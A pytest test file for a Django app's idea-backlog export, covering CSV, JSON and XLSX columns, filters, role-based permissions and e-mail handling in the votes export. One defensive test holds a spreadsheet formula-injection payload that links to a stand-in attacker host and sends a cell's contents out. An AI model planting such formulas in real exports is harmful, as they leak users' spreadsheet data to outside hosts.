"""The backlog export: every column for a shipped, a declined and a merged idea, in CSV, JSON and
XLSX; the list's filters; spreadsheet formulas neutralised; the votes export, with e-mail
addresses for the product team only; who may export; and a fixed number of queries."""

import csv
import io
import json
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from community.models import Segment
from community.roles import Role
from ideas import exports, services
from ideas.forms import IdeaFilterForm
from ideas.models import DeclineReason, Idea, IdeaVote, Importance
from tests.factories import (
    IdeaTagFactory,
    MemberFactory,
    SegmentFactory,
    idea_status,
    product_page,
    proposed_idea,
    totp_authenticator,
)

pytestmark = pytest.mark.django_db


def csv_rows(content: bytes) -> list[dict]:
    assert content.startswith("\ufeff".encode()), "spreadsheets need the byte order mark"
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def download(client, **query):
    response = client.get(reverse("ideas:export"), query)
    assert response.status_code == 200, response.content[:500]
    return response, b"".join(response.streaming_content) if response.streaming else b""


@pytest.fixture
def backlog(product, author, staff):
    """A shipped idea (with votes of every importance and segment, a vote staff recorded, a
    public comment and an internal note), a declined one, and a duplicate merged into the
    shipped one."""
    business = SegmentFactory(slug="business", name_en="Business", name_fr="Entreprises")
    SegmentFactory(slug="home", name_en="Home", name_fr="Particuliers")
    automation = IdeaTagFactory(slug="automation", name_en="Automation", name_fr="Automatisme")
    app = IdeaTagFactory(slug="app", name_en="App", name_fr="Appli")
    shipped = proposed_idea(
        author,
        title="Schedule the machine to start",
        body="I would like **coffee** ready when I wake up.",
        product=product,
        tags=[automation, app],
    )
    essential = MemberFactory(display_name="Essie Essential", segment=business)
    nice = MemberFactory(display_name="Nico Nice")
    customer = MemberFactory(display_name="Carla Customer", segment=business)
    services.idea_vote(essential, shipped, importance=Importance.ESSENTIAL)
    services.idea_vote(nice, shipped, importance=Importance.NICE)
    services.vote_record_for(staff, customer, shipped, importance=Importance.IMPORTANT)
    services.comment_create(nice, shipped, body="Yes please.")
    services.comment_create(staff, shipped, body="Firmware team is on it.", internal=True)
    services.idea_status_change(
        staff, shipped, to_status=idea_status("shipped"), note="Shipped in **firmware 2.0**."
    )

    declined = proposed_idea(MemberFactory(display_name="Dora"), title="Make it fly", body="Up.")
    services.idea_status_change(
        staff,
        declined,
        to_status=idea_status("declined"),
        note="Not something we will build.",
        decline_reason=DeclineReason.objects.filter(active=True).first(),
    )

    duplicate = proposed_idea(
        MemberFactory(display_name="Dupont", segment=business),
        title="Start brewing at a set time",
        body="Same idea.",
        product=product,
    )
    services.idea_merge(staff, duplicate, shipped, note="Same request.")
    return {
        "shipped": Idea.objects.get(pk=shipped.pk),
        "declined": Idea.objects.get(pk=declined.pk),
        "merged": Idea.objects.get(pk=duplicate.pk),
    }


@pytest.fixture
def exporter(client, product_team_member):
    client.force_login(product_team_member)
    return client


def test_every_column_of_a_shipped_a_declined_and_a_merged_idea_in_csv(exporter, backlog):
    response, content = download(exporter, format="csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="ideas-')
    assert {"private", "no-store"} <= {
        part.strip() for part in response["Cache-Control"].split(",")
    }
    rows = {row["Number"]: row for row in csv_rows(content)}
    assert set(rows) == {str(idea.pk) for idea in backlog.values()}

    shipped = backlog["shipped"]
    row = rows[str(shipped.pk)]
    assert row == {
        "Number": str(shipped.pk),
        "Link": f"http://testserver/ideas/{shipped.pk}/schedule-the-machine-to-start/",
        "Title": "Schedule the machine to start",
        "Description": "I would like coffee ready when I wake up.",
        "Product": "Espresso One",
        "Tags": "App, Automation",
        "Status": "Shipped",
        "Status changed": timezone.localtime(shipped.status_changed_at).isoformat(
            timespec="seconds"
        ),
        "Status changed by": "Amélie Durand",
        "Last public note": "Shipped in firmware 2.0.",
        # The author, three voters, and the duplicate's author moved by the merge.
        "Votes": "5",
        "Votes: essential": "1",
        "Votes: important": "3",
        "Votes: nice to have": "1",
        "Voters": "5",
        "Votes: Business": "3",
        "Votes: Home": "0",
        "Votes: no segment": "2",
        "Comments": "1",
        "Author": "Ines Idea",
        "Proposed": timezone.localtime(shipped.created_at).isoformat(timespec="seconds"),
        "Last activity": timezone.localtime(shipped.last_activity_at).isoformat(timespec="seconds"),
        "Merged into (number)": "",
        "Merged into (title)": "",
    }

    declined = rows[str(backlog["declined"].pk)]
    assert declined["Status"] == "Declined"
    assert declined["Status changed by"] == "Amélie Durand"
    assert declined["Last public note"] == "Not something we will build."
    assert (declined["Votes"], declined["Votes: important"], declined["Author"]) == (
        "1",
        "1",
        "Dora",
    )
    assert declined["Product"] == "" and declined["Tags"] == ""

    merged = rows[str(backlog["merged"].pk)]
    assert merged["Merged into (number)"] == str(shipped.pk)
    assert merged["Merged into (title)"] == "Schedule the machine to start"
    assert (merged["Votes"], merged["Voters"], merged["Votes: Business"]) == ("0", "0", "0")
    assert merged["Status"] == "New" and merged["Status changed"] == ""
    assert merged["Status changed by"] == "" and merged["Last public note"] == ""


def test_the_same_rows_in_json_with_lists_and_segments_by_slug(exporter, backlog):
    response, content = download(exporter, format="json")

    assert response["Content-Type"] == "application/json; charset=utf-8"
    data = json.loads(content)
    assert data["export"]["kind"] == "ideas"
    assert data["export"]["filters"] == {}
    ideas = {row["id"]: row for row in data["ideas"]}
    shipped = ideas[backlog["shipped"].pk]
    assert shipped["tags"] == ["App", "Automation"]
    assert shipped["votes_by_segment"] == [
        {"segment": "business", "votes": 3},
        {"segment": "home", "votes": 0},
        {"segment": None, "votes": 2},
    ]
    assert (shipped["votes"], shipped["votes_essential"], shipped["status"]) == (5, 1, "Shipped")
    assert shipped["status_changed_at"] == timezone.localtime(
        backlog["shipped"].status_changed_at
    ).isoformat(timespec="seconds")
    assert ideas[backlog["merged"].pk]["merged_into_id"] == backlog["shipped"].pk
    assert ideas[backlog["declined"].pk]["merged_into_id"] is None


def test_the_same_rows_in_xlsx_with_numbers_and_dates_as_such(exporter, backlog):
    response = exporter.get(reverse("ideas:export"), {"format": "xlsx"})

    assert response.status_code == 200
    assert response["Content-Type"] == exports.CONTENT_TYPES["xlsx"]
    assert response["Content-Disposition"].startswith('attachment; filename="ideas-')
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header, *rows = list(sheet.values)
    assert header[:4] == ("Number", "Link", "Title", "Description")
    by_id = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    shipped = by_id[backlog["shipped"].pk]
    assert shipped["Votes"] == 5 and shipped["Votes: Business"] == 3
    assert shipped["Status changed"] == timezone.localtime(
        backlog["shipped"].status_changed_at
    ).replace(tzinfo=None, microsecond=0)
    assert by_id[backlog["merged"].pk]["Merged into (number)"] == backlog["shipped"].pk
    assert by_id[backlog["merged"].pk]["Status changed"] is None


def test_names_and_links_are_in_the_requesters_language(exporter, backlog):
    response = exporter.get("/fr/ideas/export/", {"format": "json"})
    data = json.loads(b"".join(response.streaming_content))

    row = next(row for row in data["ideas"] if row["id"] == backlog["shipped"].pk)
    assert data["export"]["language"] == "fr"
    assert row["url"].startswith(f"http://testserver/fr/ideas/{backlog['shipped'].pk}/")
    assert row["status"] == idea_status("shipped").name_fr
    assert row["tags"] == ["Appli", "Automatisme"]


@pytest.fixture
def spread(site_pages, product, author):
    """Ideas across statuses, products, tags and dates, to filter."""
    other = product_page(site_pages.catalogue["en"], "Grinder Two")
    mobile = IdeaTagFactory(slug="mobile", name_en="Mobile")
    old = proposed_idea(author, title="An old idea", body="From last year.", product=product)
    Idea.objects.filter(pk=old.pk).update(created_at=timezone.now() - timedelta(days=400))
    tagged = proposed_idea(author, title="A mobile idea", body="Phone.", tags=[mobile])
    elsewhere = proposed_idea(author, title="A grinder idea", body="Grind.", product=other)
    planned = proposed_idea(author, title="A planned idea", body="Soon.", product=product)
    Idea.objects.filter(pk=planned.pk).update(status=idea_status("planned"))
    deleted = proposed_idea(author, title="A deleted idea", body="Gone.", product=product)
    services.idea_delete(author, deleted)
    return {
        "old": old,
        "tagged": tagged,
        "elsewhere": elsewhere,
        "planned": planned,
        "other_product": other,
    }


def exported_titles(client, **query):
    _response, content = download(client, format="csv", **query)
    return sorted(row["Title"] for row in csv_rows(content))


def test_the_export_is_filtered_exactly_like_the_ideas_list(exporter, spread, product):
    assert exported_titles(exporter) == [
        "A grinder idea",
        "A mobile idea",
        "A planned idea",
        "An old idea",
    ]
    assert exported_titles(exporter, status="planned") == ["A planned idea"]
    assert exported_titles(exporter, product=product.pk) == ["A planned idea", "An old idea"]
    assert exported_titles(exporter, tag="mobile") == ["A mobile idea"]
    last_month = (timezone.localdate() - timedelta(days=30)).isoformat()
    assert "An old idea" not in exported_titles(exporter, since=last_month)
    assert exported_titles(
        exporter, until=(timezone.localdate() - timedelta(days=300)).isoformat()
    ) == ["An old idea"]

    for query in (
        {"status": "planned"},
        {"product": product.pk},
        {"tag": "mobile"},
        {"since": last_month},
    ):
        listed = exporter.get(reverse("ideas:list"), query).context["page_obj"].object_list
        assert exported_titles(exporter, **query) == sorted(idea.title for idea in listed)


def test_the_ideas_list_offers_the_export_with_its_own_filters(exporter, spread, product):
    response = exporter.get(reverse("ideas:list"), {"status": "planned", "tag": "x-unknown"})

    html = response.content.decode()
    assert 'action="/ideas/export/"' in html
    assert '<input type="hidden" name="status" value="planned">' in html
    assert 'name="tag"' not in html.split('action="/ideas/export/"')[1].split("</form>")[0]


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ({"format": "pdf"}, "Choose a format: CSV, XLSX or JSON"),
        ({"format": "csv", "status": "nope"}, "No status has the slug “nope”."),
        ({"format": "csv", "product": "abc"}, "No product in the catalogue has this number."),
        ({"format": "csv", "since": "2025-02-30"}, "Enter a date, for example 2030-01-31."),
        (
            {"format": "csv", "since": "2025-03-01", "until": "2025-01-01"},
            "The end date is before the start date.",
        ),
        ({"format": "csv", "kind": "comments"}, "Export “ideas” or “votes”"),
    ],
)
def test_a_bad_export_request_says_what_is_wrong(exporter, query, message):
    response = exporter.get(reverse("ideas:export"), query)

    assert response.status_code == 400
    assert message in response.content.decode()


def test_text_that_a_spreadsheet_would_run_is_neutralised(exporter, author, product_team_member):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    idea = proposed_idea(author, title=formula, body="+1 and @everyone")
    voter = MemberFactory(display_name="-2+3")
    services.idea_vote(voter, idea, importance=Importance.ESSENTIAL)

    _response, content = download(exporter, format="csv")
    row = csv_rows(content)[0]
    assert row["Title"] == "'" + formula
    assert row["Description"] == "'+1 and @everyone"

    _response, content = download(exporter, format="csv", kind="votes")
    assert {row["Voter"] for row in csv_rows(content)} == {"'-2+3", author.display_name}

    response = exporter.get(reverse("ideas:export"), {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cell = sheet.cell(row=2, column=3)
    assert cell.value == "'" + formula and cell.data_type == "s"

    _response, content = download(exporter, format="json")
    assert json.loads(content)["ideas"][0]["title"] == formula


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1"])
def test_every_formula_start_is_neutralised(text):
    assert exports.neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Plain", "", "1-2", "a=b", "'already"])
def test_ordinary_text_is_left_as_it_is(text):
    assert exports.neutralise(text) == text


def votes_rows(client):
    _response, content = download(client, format="csv", kind="votes")
    return csv_rows(content)


def test_the_votes_export_lists_each_vote_with_e_mails_for_the_product_team(
    exporter, backlog, staff
):
    rows = votes_rows(exporter)

    shipped = backlog["shipped"]
    by_voter = {row["Voter"]: row for row in rows if row["Idea number"] == str(shipped.pk)}
    assert set(by_voter) == {
        "Ines Idea",
        "Essie Essential",
        "Nico Nice",
        "Carla Customer",
        "Dupont",
    }
    customer = by_voter["Carla Customer"]
    assert customer["Idea"] == "Schedule the machine to start"
    assert customer["Link"] == f"http://testserver{shipped.get_absolute_url()}"
    assert customer["Importance"] == "Important"
    assert customer["Segment"] == "Business"
    assert customer["Recorded by"] == "Amélie Durand"
    assert customer["E-mail address"].endswith("@example.com")
    assert by_voter["Nico Nice"]["Segment"] == "" and by_voter["Nico Nice"]["Recorded by"] == ""
    vote = IdeaVote.objects.get(idea=shipped, member__display_name="Nico Nice")
    assert by_voter["Nico Nice"]["Voted"] == timezone.localtime(vote.created_at).isoformat(
        timespec="seconds"
    )
    assert not [row for row in rows if row["Idea number"] == str(backlog["merged"].pk)]


def test_someone_else_allowed_to_export_gets_the_votes_without_e_mails(client, backlog):
    from django.contrib.auth.models import Group, Permission

    analysts = Group.objects.create(name="Analysts")
    analysts.permissions.add(Permission.objects.get(codename="export_ideas"))
    analyst = MemberFactory(display_name="Ana Analyst")
    analyst.groups.add(analysts)
    client.force_login(analyst)

    rows = votes_rows(client)

    assert rows and "E-mail address" not in rows[0]
    assert not any("@example.com" in value for row in rows for value in row.values())


def test_the_command_line_gives_e_mails_only_when_asked(tmp_path, backlog):
    from django.core.management import call_command

    without = tmp_path / "votes.csv"
    call_command("export_ideas", "--votes", "-o", str(without), "--no-progress")
    assert "@example.com" not in without.read_text(encoding="utf-8-sig")

    with_emails = tmp_path / "votes-emails.csv"
    call_command(
        "export_ideas", "--votes", "--with-emails", "-o", str(with_emails), "--no-progress"
    )
    assert "@example.com" in with_emails.read_text(encoding="utf-8-sig")


ROLES = [
    "visitor",
    "unverified_member",
    "member",
    "staff",
    "moderator",
    "product_team_member",
]


@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize("kind", ["ideas", "votes"])
def test_only_the_product_team_exports(request, client, role, kind, backlog):
    actor = request.getfixturevalue(role)
    if actor is not None:
        client.force_login(actor)

    response = client.get(reverse("ideas:export"), {"format": "csv", "kind": kind})
    listing = client.get(reverse("ideas:list")).content.decode()

    if role == "product_team_member":
        assert response.status_code == 200
        assert 'id="export"' in listing
    elif role == "visitor":
        assert response.status_code == 302
        assert response["Location"].startswith("/accounts/login/")
        assert 'id="export"' not in listing
    else:
        assert response.status_code == 403
        assert 'id="export"' not in listing


def test_a_superuser_exports_too(client, backlog):
    admin = MemberFactory(is_superuser=True, is_staff=True)
    totp_authenticator(admin)
    client.force_login(admin)

    assert client.get(reverse("ideas:export"), {"format": "csv"}).status_code == 200


def test_the_product_team_role_holds_the_export_permission(product_team_member):
    assert product_team_member.has_role(Role.PRODUCT_TEAM)
    assert product_team_member.has_perm("ideas.export_ideas")


def test_the_filter_form_reads_what_the_command_and_the_api_send(product):
    form = IdeaFilterForm({"status": "planned", "product": str(product.pk), "since": "2025-01-01"})
    assert form.is_valid(), form.errors
    assert form.query() == {"status": "planned", "product": product.pk, "since": "2025-01-01"}


def queries_for_export(client, **query):
    with CaptureQueriesContext(connection) as captured:
        response = client.get(reverse("ideas:export"), query)
        b"".join(response.streaming_content)
    assert response.status_code == 200
    return len(captured)


def add_ideas(author, count, *, segment=None, product=None):
    voters = MemberFactory.create_batch(3, segment=segment)
    for number in range(count):
        idea = proposed_idea(author, title=f"Idea number {number}", body="Text.", product=product)
        idea.tags.set([IdeaTagFactory()])
        for voter in voters:
            services.idea_vote(voter, idea, importance=Importance.ESSENTIAL)


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
@pytest.mark.parametrize("kind", ["ideas", "votes"])
def test_an_export_costs_the_same_queries_for_5_and_for_40_ideas(
    exporter, author, product, fmt, kind
):
    add_ideas(author, 5, segment=SegmentFactory(), product=product)
    queries_for_export(exporter, format=fmt, kind=kind)  # warm: the site structure is read once
    small = queries_for_export(exporter, format=fmt, kind=kind)
    add_ideas(author, 35, segment=SegmentFactory(), product=product)
    large = queries_for_export(exporter, format=fmt, kind=kind)

    assert large == small


def test_rows_are_read_in_chunks_so_memory_does_not_grow_with_the_backlog(
    author, monkeypatch, product
):
    monkeypatch.setattr(exports, "CHUNK_SIZE", 4)
    add_ideas(author, 10, product=product)
    export = exports.IdeaExport({})
    sizes = [len(chunk) for chunk in export.chunks()]

    assert sizes == [4, 4, 2]
    assert Segment.objects.count() == 0
